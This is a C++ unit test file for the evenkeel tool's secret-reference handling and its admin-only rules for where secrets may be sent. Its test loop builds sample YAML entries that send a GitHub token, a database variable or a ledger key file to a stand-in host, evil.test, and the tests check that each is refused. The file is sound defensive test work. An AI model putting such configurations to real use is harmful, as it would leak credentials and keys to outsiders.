#include "definitions/references.hpp"

#include <gmock/gmock.h>

#include "definitions/config.hpp"
#include "support/release_world.hpp"

namespace evenkeel::definitions {
namespace {

using testing::HasSubstr;

constexpr const char* with_secrets = R"(
connections:
  - {name: hub, kind: github, url: "https://api.github.com", secret: "${env:HUB_TOKEN}"}
channels:
  - {name: room, kind: chat, url: "${env:ROOM}", to: ["#ops"]}
  - {name: hook, kind: webhook, url: "https://news.test/hook"}
)";

Organisation read(const std::string& more) { return read_yaml(testing_world::people_and_services + more, "evenkeel.yaml").value(); }
std::string swapped(std::string text, const std::string& from, const std::string& to) {
  return text.replace(text.find(from), from.size(), to);
}

TEST(References, AreFoundWhereverTheyStand) {
  EXPECT_THAT(secret_references(read(with_secrets)), testing::UnorderedElementsAre("${env:HUB_TOKEN}", "${env:ROOM}"));
  auto o = read("");
  o.services[0].deploy = {{.name = "put", .command = {"x", "${file:/run/key}"}, .env = {{"T", "${env:STEP_TOKEN}"}}}};
  EXPECT_THAT(secret_references(o), testing::UnorderedElementsAre("${file:/run/key}", "${env:STEP_TOKEN}"));
}
TEST(References, NobodyButAnAdminSendsASecretToAnAddressOfTheirOwn) {
  testing_world::World world{with_secrets};
  const auto apply_as = [&](const char* login, const std::string& yaml) {  // eve leads the engineers, who may say where a channel leads
    return world.as(login, [&](Work& work) { return apply(work, read(yaml), "test"); });
  };
  const std::string good = with_secrets;
  for (const auto& attack : {
           good + "  - {name: mine, kind: chat, url: \"https://evil.test/${env:HUB_TOKEN}\"}\n",
           good + "  - {name: mine, kind: webhook, url: \"https://evil.test/\", secret: \"${env:HUB_TOKEN}\"}\n",
           good + "  - {name: mine, kind: webhook, url: \"${file:/var/lib/evenkeel/state/ledger.key}\"}\n",
           swapped(good, "${env:ROOM}", "${env:EVENKEEL_DB}"),
           swapped(good, "\"https://news.test/hook\"", "\"https://news.test/hook\", secret: \"${env:HUB_TOKEN}\""),
       }) {
    const auto refused = [&]() -> Result<Applied> {
      auto o = read_yaml(testing_world::people_and_services + attack, "evenkeel.yaml");
      if (!o) return std::unexpected(o.error());
      return world.as("eve", [&](Work& work) { return apply(work, *o, "test"); });
    }();
    ASSERT_FALSE(refused) << attack;
    EXPECT_THAT(refused.error().message, testing::AnyOf(HasSubstr("an admin"), HasSubstr("never stands in this file")));
  }
  EXPECT_FALSE(apply_as("ann", swapped(good, "https://news.test/hook", "https://news.test/other")))
      << "an author writes, and sends nowhere";
  const auto kept = apply_as("eve", swapped(good, "https://news.test/hook", "https://news.test/other"));
  EXPECT_TRUE(kept) << kept.error().message << ": what names no secret stays theirs";
  EXPECT_TRUE(world.as("cora", [&](Work& work) { return apply(work, read(swapped(good, "${env:ROOM}", "${env:ROOM2}")), "test"); }));
}
TEST(References, TheAddressOfAChatAndAPasswordInAnAddressNeverStandInTheFile) {
  const auto refused = [](const std::string& more) {
    auto o = read_yaml(testing_world::people_and_services + more, "evenkeel.yaml");
    return o ? std::string("taken") : o.error().complaints.front().message;
  };
  EXPECT_THAT(refused("channels: [{name: room, kind: chat, url: \"https://hooks.chat.test/T0/B0/xyz\"}]\n"),
              HasSubstr("never stands in this file"));
  EXPECT_THAT(refused("connections: [{name: p, kind: prometheus, url: \"https://me:pw@prom.test\"}]\n"),
              HasSubstr("a password in an address"));
}

TEST(References, AnAddressOfAChatFromEarlierIsNotShown) {
  auto o = read(with_secrets);
  o.channels[0].url = "https://hooks.chat.test/T0/B0/xyz";
  const auto shown = json::write(without_secret_addresses(o));
  EXPECT_THAT(shown, testing::Not(HasSubstr("hooks.chat.test")));
  EXPECT_THAT(shown, HasSubstr("news.test/hook"));
}

}  // namespace
}  // namespace evenkeel::definitions
